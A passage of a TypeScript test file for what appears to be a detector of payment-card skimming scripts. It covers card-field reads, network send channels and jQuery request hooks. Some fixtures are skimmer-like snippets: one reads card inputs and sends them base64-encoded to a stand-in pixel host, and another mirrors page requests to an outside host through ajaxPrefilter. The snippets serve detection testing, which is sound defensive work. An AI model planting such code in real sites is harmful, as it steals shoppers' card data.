  it("an icon from the shop's own path carries nothing typed", () => {
    const v = analyzeScript(
      write(
        `box.insertAdjacentHTML('beforeend', '<img src="/media/icons/lock.svg" alt="secure">')`,
      ),
    )
    expect(v.verdict).toBe('clean')
  })
})

describe('what is not a send of card data', () => {
  it("a card brand icon from a CDN, or a lazy image's data-src, written beside the card field", () => {
    const page = (
      markup: string,
    ) => `var n = document.querySelector('#cc_number'), logo = document.querySelector('.brand')
      n.addEventListener('input', function () { logo.innerHTML = ${markup} })`
    expect(
      analyzeScript(page(`'<img src="https://cdn.icons.example/pay/visa.svg" alt="">'`)).verdict,
    ).toBe('clean')
    expect(
      analyzeScript(
        page(`'<img src="https://cdn.icons.example/pay/visa.svg"> ending ' + n.value.slice(-4)`),
      ).verdict,
    ).toBe('clean')
    expect(
      rules(page(`'<img data-src="https://cdn.icons.example/p/' + btoa(n.value) + '.svg">'`)),
    ).not.toContain('card-field-read-and-send')
  })
  it('whether a card was chosen, told to an analytics tag, is no card data', () => {
    const source = `document.querySelector('#pay').addEventListener('click', function () {
        var checkout = window.checkoutModel
        gtag('event', 'add_payment_info', { payment_type: checkout.cardNumber ? 'card' : 'paypal' }) })`
    expect(analyzeScript(source).verdict).toBe('clean')
  })
  it('a loop that stops at the card field it was looking for reads that card field', () => {
    const source = `var els = document.querySelectorAll('input'), i
      for (i = 0; i < els.length; i++) if (/cc.?num|cvv/.test(els[i].name)) break
      new Image().src = 'https://px.loop-find.example/p.gif?d=' + btoa(els[i].value)`
    expect(
      analyzeScript(source)
        .findings.map((f) => f.message)
        .join('\n'),
    ).toContain('reads card fields')
  })
})

describe('channels named by what is done with them', () => {
  it('open() then send() on one object is a request, whatever constructor made it', () => {
    const sinks = factsOf(
      `var R = frames[0].XMLHttpRequest; var q = new R(); q.open('POST', u); q.send(d)`,
      { sinks: true },
    ).sinks
    expect(sinks.map((s) => s.kind)).toEqual(['xhr', 'xhr'])
    // a send() on an object no open() was called on stays unknown
    const lone = factsOf(`var R = frames[0].Channel; var q = new R(); q.send(d)`, { sinks: true })
    expect(lone.sinks).toEqual([])
  })

  it('a WebTransport writer carries data; document.write beside it does not', () => {
    const { sinks } = factsOf(
      `var t = new WebTransport(u); var w = t.datagrams.writable.getWriter(); w.write(d);
       document.write('<p>hi</p>')`,
      { sinks: true },
    )
    expect(sinks.map((s) => `${s.kind}:${s.data.length}`)).toEqual([
      'webtransport:0',
      'webtransport:1',
    ])
  })

  it('a media element fetches its source as an image does', () => {
    const { sinks } = factsOf(
      `var t = document.createElement('track'); t.src = base + q;
       var s = document.createElement('div'); s.src = base + q`,
      { sinks: true },
    )
    expect(sinks.map((s) => s.kind)).toEqual(['image', 'element-src'])
  })
})

describe('channels that only look alike', () => {
  it('send() on a parameter pairs with no open() of another function', () => {
    const { sinks } = factsOf(`function a(e) { e.open('GET', '/x') } function b(e) { e.send(d) }`, {
      sinks: true,
    })
    expect(sinks.filter((s) => s.kind === 'xhr' && s.data.length > 0)).toEqual([])
  })

  it("a frame's document.write is markup, beside a WebTransport", () => {
    const { sinks } = factsOf(
      `var t = new WebTransport(u); frame.contentDocument.write('<p>x</p>'); el.ownerDocument.write('y')`,
      { sinks: true },
    )
    expect(sinks.map((s) => s.kind)).toEqual(['webtransport'])
  })
})

describe("jQuery's request hooks", () => {
  const copy = (register: string): string => `;(function ($) {
    ${register}(function (options, original) {
      $.ajax({ url: 'https://mirror.example-stats.net/in', type: 'POST', data: { d: JSON.stringify(original.data) } })
    })
  })(window.jQuery)`
  it("a prefilter copying the page's request to a written-out host is a mirror", () => {
    expect(rules(copy('$.ajaxPrefilter'))).toContain('request-hook-mirror')
  })
  it("a key named like jQuery's own definition does not switch the check off", () => {
    const source = `var decoy = { ajaxPrefilter: 0 }; var d2 = { ajaxPrefilter: String(1) }\n${copy('$.ajaxPrefilter')}`
    expect(rules(source)).toContain('request-hook-mirror')
  })
  it("methods named after Object.prototype's own are no hooks, and nothing fails", () => {
    const source = `var o = {}; o.__defineSetter__('value', function (v) { this.v = v })
      o.constructor(function () {}); o.toString(function () {})`
    const v = analyzeScript(source)
    expect(v.findings.map((f) => f.rule)).not.toContain('analysis-error')
  })
})
